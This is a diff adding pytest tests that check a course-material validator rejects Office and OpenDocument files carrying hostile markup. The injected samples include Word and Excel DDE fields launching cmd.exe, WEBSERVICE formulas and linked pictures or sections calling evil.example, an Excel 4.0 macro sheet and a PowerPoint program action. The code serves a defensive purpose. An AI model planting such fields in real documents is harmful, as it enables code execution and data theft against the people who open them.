@@ -506,6 +506,76 @@ def test_a_hyperlink_out_of_an_office_file_is_no_remote_part(fixture_content):
     assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/ohje.docx"]
 
 
+def _in_part(part_name: str, before: bytes, added: bytes):
+    return lambda part, data: data.replace(before, before + added, 1) if part == part_name else data
+
+
+_FIELD_BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+_FIELD_END = b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+_ODF_DOCUMENT = "koe/malli.odt"
+# Each: the document, its kind, the part and the text after which the hostile markup goes.
+_RUNNING_OR_FETCHING = {
+    # Word's DDE field starts a program, split into runs as Word splits it.
+    "word-dde-field": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
+                       + b'<w:r><w:instrText xml:space="preserve"> dde</w:instrText></w:r><w:r><w:instrText>AUTO '
+                       b'c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r>' + _FIELD_END + b"</w:p>"),
+    # A simple field that fetches a picture from an address when the document is opened.
+    "word-includepicture": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
+                            b'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.example/seuranta.png" \\d \'>'
+                            b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
+    "excel-dde-formula": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
+                          b"""<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c>"""),
+    "excel-webservice": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
+                         b'<c r="B1"><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f><v>0</v></c>'),
+    "excel-macro-sheet": ("koe/kysely.xlsx", "xlsx", "[Content_Types].xml", b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">",
+                          b'<Override PartName="/xl/macrosheets/sheet2.xml" '
+                          b'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
+    "powerpoint-program": ("koe/koulutus.pptx", "pptx", "ppt/slides/slide1.xml", b"<a:p><a:r>",
+                           b'<a:rPr><a:hlinkClick r:id="" action="ppaction://program"/></a:rPr>'),
+    "opendocument-linked-section": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
+                                    b'<text:section text:name="S"><text:section-source xlink:href="https://evil.example/x.odt"/>'
+                                    b"</text:section>"),
+    "opendocument-linked-picture": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
+                                    b'<text:p><draw:frame><draw:image xlink:href="https://evil.example/seuranta.png"/>'
+                                    b"</draw:frame></text:p>"),
+    "opendocument-webservice": ("koe/seuranta.ods", "ods", "content.xml", b"<table:table-row>",
+                                b'<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>'),
+}
+
+
+@pytest.mark.parametrize("case", list(_RUNNING_OR_FETCHING))
+def test_an_office_file_whose_field_or_formula_runs_a_program_or_fetches_is_refused(fixture_content, case):
+    """What starts a program or fetches from the network without being a part or a relationship:
+    Word's fields, a spreadsheet's formulas, Excel 4.0 macro sheets, a slide's click that runs a
+    program, and OpenDocument's linked sections and pictures."""
+    name, kind, part, before, added = _RUNNING_OR_FETCHING[case]
+    data = _rezipped(kind, name, _in_part(part, before, added))
+    assert added in _part(data, part)
+    (fixture_content / "aineistot" / name).write_bytes(data)
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert f"roadmap/aineistot/{name}" in problem.message and "tallenna tiedosto uudelleen" in problem.message
+
+
+def test_ordinary_fields_and_formulas_are_not_refused(fixture_content):
+    """A page number, a hyperlink field, a sum and a sheet name with a bar in quotes pass."""
+    docx = _rezipped("docx", "koe/ohje.docx", _in_part("word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
+                     + b"<w:r><w:instrText> PAGE </w:instrText></w:r>" + _FIELD_END + b"</w:p>"
+                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK "https://www.example.org/" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'))
+    xlsx = _rezipped("xlsx", "koe/kysely.xlsx", _in_part("xl/worksheets/sheet1.xml", b"</is></c>",
+                     b"""<c r="B1"><f>SUM('Vastaukset | 2020'!A1:A3)&amp;"a|b"</f><v>0</v></c>"""))
+    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(docx)
+    (fixture_content / "aineistot" / "koe" / "kysely.xlsx").write_bytes(xlsx)
+    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/kysely.xlsx"]
+
+
+def _part(data: bytes, name: str) -> bytes:
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read(name)
+
+
 @pytest.mark.parametrize("case", ["basic", "event"])
 def test_an_opendocument_file_with_macros_is_refused(fixture_content, case):
     name = "koe/malli.odt"
